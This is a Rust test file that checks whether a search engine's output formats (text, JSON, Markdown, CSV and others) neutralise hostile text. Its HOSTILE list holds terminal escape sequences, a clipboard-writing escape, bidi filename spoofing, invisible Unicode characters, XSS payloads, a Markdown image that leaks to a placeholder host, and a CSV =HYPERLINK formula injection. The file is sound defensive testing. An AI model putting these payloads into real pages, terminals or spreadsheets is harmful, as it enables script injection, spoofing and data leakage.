//! Hostile text through every format.

use findling_engine::{
    Correction, Facet, Mode, PageHit, Response, SectionHit, Snippet, Suggestion, SuggestionKind,
    Total,
};
use serde_json::Value;

use super::*;
use crate::safe_text::is_safe;

const FORMATS: [Format; 8] = [
    Format::Text,
    Format::Json,
    Format::Jsonl,
    Format::Markdown,
    Format::Brief,
    Format::Csv,
    Format::Paths,
    Format::Citations(Style::Bibtex),
];

/// Texts that control a terminal, hide something, or are markup somewhere.
const HOSTILE: [&str; 22] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{9b}31m red \u{9d}0;x\u{9c}",
    "a\u{8}\u{8}\u{8}b\u{7f}",
    "one\rtwo",
    "one\r\n\r\ntwo\u{2028}three\u{2029}four\u{85}five",
    "\u{0}\u{1}\u{2}",
    "exe.\u{202e}gpj",
    "\u{2066}\u{2067}\u{2068}x\u{2069}\u{202a}\u{202b}\u{202c}\u{202d}",
    "in\u{200b}vis\u{2060}ible\u{feff}\u{180e}",
    "\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
    "A\u{fe00}\u{fe01}\u{fe02}\u{e0100}\u{e0101}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/?leak) [y](javascript:alert(1))",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "\",\"\n\"quoted\"",
    "```\n# heading\n| a | b |\n> quoted",
    "javascript:alert(1)//\u{1b}[0m)",
];

fn response(text: &str) -> Response {
    let own = || text.to_owned();
    let units = text.encode_utf16().count() as u32;
    let snippet = Snippet {
        text: own(),
        ranges: vec![(0, 1), (units / 2, units)],
        cut_start: true,
        ..Snippet::default()
    };
    let section = SectionHit {
        url: own(),
        anchor: Some(own()),
        heading_path: vec![own(), own()],
        attributes: [(own(), Value::from(text)), ("tags".into(), Value::from(vec![text]))]
            .into_iter()
            .collect(),
        score: 1.0,
        snippet,
        legs: Default::default(),
        explain: None,
    };
    let page = PageHit {
        id: own(),
        url: own(),
        title: own(),
        language: own(),
        score: 1.0,
        attributes: [(own(), Value::from(text)), ("tags".into(), Value::from(vec![text]))]
            .into_iter()
            .collect(),
        meta: vec![(own(), own())],
        sections: vec![section.clone(), section],
        n_sections: 3,
        copies: 1,
        pinned: false,
    };
    Response {
        query: own(),
        mode: Mode::Lexical,
        encoder: Some(own()),
        notices: vec![],
        corrections: vec![Correction { word: own(), replacement: own() }],
        suggestions: vec![Suggestion {
            kind: SuggestionKind::Words,
            what: own(),
            instead: Some(own()),
            query: own(),
            also: vec![],
            filter: Some(own()),
            verbatim: false,
            pages: 1,
        }],
        answerable: None,
        total: Total { pages: 2, sections: 3, at_least: false },
        results: vec![page.clone(), PageHit { title: String::new(), sections: vec![], ..page }],
        facets: vec![Facet { name: own(), values: vec![(own(), 1)] }],
        plan: None,
        why: None,
        document: None,
    }
}

fn written(response: &Response, format: Format) -> String {
    let (meta, sources) = (Meta::default(), Sources::default());
    let answer = Answer {
        response,
        offset: 0,
        meta: &meta,
        sources: &sources,
        collection: None,
        group_by: None,
        timings: false,
        vectors: None,
    };
    let mut out = Vec::new();
    answer.write(format, &Ui::silent(), &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn a_response_with_vectors_has_the_same_fields_and_a_vector_for_each_section() {
    for (copies, pinned) in [(0, false), (2, true)] {
        let mut response = response("text");
        for page in &mut response.results {
            (page.copies, page.pinned) = (copies, pinned);
        }
        let plain = serde_json::to_value(&response).unwrap();
        let vectors = Vectors::default();
        let mut with =
            serde_json::to_value(body(&response, Some(&vectors), &Sources::default())).unwrap();
        assert_ne!(with, plain);
        for page in with["results"].as_array_mut().unwrap() {
            for section in page["sections"].as_array_mut().unwrap() {
                let vector = section.as_object_mut().unwrap().remove("vector");
                assert_eq!(vector, Some(Value::Null), "a section without one says so");
            }
        }
        assert_eq!(with, plain);
    }
}

#[test]
fn no_format_passes_on_what_controls_or_hides() {
    for text in HOSTILE {
        for format in FORMATS {
            let out = written(&response(text), format);
            assert!(is_safe(&out), "{format:?} of {text:?}: {out}");
            assert!(!out.contains('\r'), "{format:?} of {text:?}");
        }
    }
}

#[test]
fn markdown_has_no_element_no_image_and_no_link_but_to_the_page() {
    for text in HOSTILE {
        let out = written(&response(text), Format::Markdown);
        let mut images_and_links = 0;
        for event in pulldown_cmark::Parser::new(&out) {
            use pulldown_cmark::{Event, Tag};
            match event {
                Event::Html(html) | Event::InlineHtml(html) => panic!("{text:?}: {html}"),
                Event::Start(Tag::Image { dest_url, .. }) => panic!("{text:?}: {dest_url}"),
                Event::Start(Tag::Link { dest_url, .. }) => {
                    assert!(crate::safe_text::is_link(&dest_url), "{text:?}: {dest_url}");
                    images_and_links += 1;
                }
                _ => {}
            }
        }
        assert!(images_and_links <= 2, "{text:?}: {out}");
    }
}

#[test]
fn rows_stay_rows_and_cells_are_no_formulas() {
    for text in HOSTILE {
        let out = written(&response(text), Format::Csv);
        let mut reader = csv::Reader::from_reader(out.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2, "{text:?}: {out}");
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{text:?}: {cell}");
        }
        assert_eq!(written(&response(text), Format::Brief).lines().count(), 2, "{text:?}");
        assert_eq!(written(&response(text), Format::Paths).lines().count(), 1, "{text:?}");
        assert_eq!(written(&response(text), Format::Jsonl).lines().count(), 2, "{text:?}");
    }
}

#[test]
fn json_has_the_text_as_it_is() {
    for text in HOSTILE {
        let out: Value = serde_json::from_str(&written(&response(text), Format::Json)).unwrap();
        assert_eq!(out["results"][0]["title"], text);
        assert_eq!(out["results"][0]["sections"][0]["snippet"]["text"], text);
        assert_eq!(out["_meta"]["schema"], 0, "the default of a meta");
    }
}
